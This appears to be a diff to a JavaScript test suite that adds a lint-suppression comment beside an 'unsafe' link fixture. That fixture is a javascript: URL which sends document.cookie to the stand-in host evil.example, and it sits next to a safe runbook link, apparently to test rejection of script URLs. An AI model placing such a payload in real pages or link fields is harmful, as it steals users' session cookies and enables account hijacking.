@@ -867,6 +867,7 @@ describe.each(databases.eachSupportedId())(
       };
       const unsafe = {
         label: 'Log in again',
+        // eslint-disable-next-line no-script-url -- a hostile runner's link, never to be kept
         url: 'javascript:fetch("//evil.example/"+document.cookie)',
       };
       const safe = { label: 'Runbook', url: 'https://wiki.example/runbook' };
